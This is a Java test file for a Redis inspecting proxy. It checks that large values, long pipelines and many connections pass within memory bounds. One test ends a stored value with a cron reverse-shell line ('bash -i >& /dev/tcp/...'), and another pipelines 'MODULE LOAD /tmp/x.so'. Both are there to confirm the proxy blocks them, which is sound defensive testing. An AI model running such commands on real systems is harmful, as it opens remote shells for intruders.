package io.bulwark.proxy.redis;

import static org.assertj.core.api.Assertions.assertThat;

import io.bulwark.proxy.ProxyInOwnProcess;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/** Large values, long pipelines and many connections pass in little memory, read to their end. */
class RedisBoundsTest {
    private static final int VALUE = 100 * 1024 * 1024;
    private static final int PIPELINE = 100_000;
    private static final int PIECE = 1 << 16;

    /** What the buffers of the proxy may hold for one flow, whatever passes on it. */
    private static final double HELD = 40e6;

    @TempDir
    private Path folder;

    /** As the launcher starts the proxy: less than the value that passes. */
    private static final String HEAP = "48m";

    private RedisServer server;
    private ProxyInOwnProcess proxy;

    @BeforeEach
    void start() throws Exception {
        server = RedisServer.start(folder);
        proxy = ProxyInOwnProcess.before(
                server.address(), RedisStand.INSPECT, Files.createDirectory(folder.resolve("proxy")), HEAP);
    }

    @AfterEach
    void stop() {
        server.close();
        var alive = proxy.isAlive();
        proxy.close();
        assertThat(alive).as(proxy.output()).isTrue();
    }

    private double held() throws Exception {
        return proxy.metrics()
                .lines()
                .filter(line -> line.startsWith("bulwark_held_bytes"))
                .mapToDouble(line -> Double.parseDouble(line.substring(line.lastIndexOf(' ') + 1)))
                .sum();
    }

    private static void writeValue(RawClient client, String end) throws IOException {
        var out = client.out();
        out.write(("*3\r\n$3\r\nSET\r\n$3\r\nbig\r\n$" + (VALUE + end.length()) + "\r\n")
                .getBytes(StandardCharsets.US_ASCII));
        var piece = new byte[PIECE];
        Arrays.fill(piece, (byte) 'v');
        for (var written = 0; written < VALUE; written += PIECE) {
            out.write(piece);
        }
        out.write((end + "\r\n").getBytes(StandardCharsets.US_ASCII));
    }

    @Test
    @Timeout(120)
    void aHugeValuePassesBothWaysInLittleMemory() throws Exception {
        try (var client = new RawClient(proxy.address())) {
            // When
            writeValue(client, "");
            var stored = client.reply();
            client.send("GET", "big");
            var value = client.reply();
            // Then
            assertThat(stored).isEqualTo("+OK");
            assertThat(value.length()).isEqualTo(VALUE);
            assertThat(held()).isLessThan(HELD);
        }
    }

    @Test
    @Timeout(120)
    void theEndOfAHugeValueIsReadBeforeTheServerHasIt() throws Exception {
        // Given
        try (var client = new RawClient(proxy.address());
                var direct = new RawClient(server.address())) {
            // When
            try {
                writeValue(client, "\n*/1 * * * * bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n");
                client.reply();
            } catch (IOException _) {
                // The connection is cut.
            }
            // Then
            assertThat(direct.ask("EXISTS", "big")).isEqualTo(":0");
        }
    }

    @Test
    @Timeout(120)
    void aPipelineThatIsWrittenBeforeAnyReplyIsReadStaysInStep() throws Exception {
        // Given
        var commands = new ByteArrayOutputStream();
        for (var index = 0; index < PIPELINE; index++) {
            commands.writeBytes(
                    index % 10_000 == 9_999
                            ? RawClient.encode("MODULE", "LOAD", "/tmp/x.so")
                            : RawClient.encode("ECHO", String.valueOf(index)));
        }
        try (var client = new RawClient(proxy.address())) {
            // When
            client.out().write(commands.toByteArray());
            // Then
            for (var index = 0; index < PIPELINE; index++) {
                var reply = client.reply();
                if (index % 10_000 == 9_999) {
                    assertThat(reply).startsWith("-NOPERM refused by Bulwark: redis-module-load");
                } else {
                    assertThat(reply).isEqualTo(String.valueOf(index));
                }
            }
            assertThat(held()).isLessThan(HELD);
        }
    }

    @Test
    @Timeout(120)
    void aCommandOfVeryManyKeysIsReadToTheLast() throws Exception {
        // Given
        var words = new String[PIPELINE + 1];
        words[0] = "DEL";
        for (var index = 1; index < words.length; index++) {
            words[index] = "key:" + index;
        }
        try (var client = new RawClient(proxy.address())) {
            client.ask("SET", "key:" + PIPELINE, "1");
            // When
            var deleted = client.ask(words);
            // Then
            assertThat(deleted).isEqualTo(":1");
        }
    }

    @Test
    @Timeout(120)
    void manyConnectionsAreServed() throws Exception {
        // Given
        var clients = new ArrayList<RawClient>();
        try {
            for (var index = 0; index < 1_000; index++) {
                clients.add(new RawClient(proxy.address()));
            }
            // When
            for (var client : clients) {
                client.send("INCR", "n");
            }
            // Then
            for (var client : clients) {
                assertThat(client.reply()).startsWith(":");
            }
            assertThat(clients.getFirst().ask("GET", "n")).isEqualTo("1000");
        } finally {
            for (var client : clients) {
                client.close();
            }
        }
    }
}
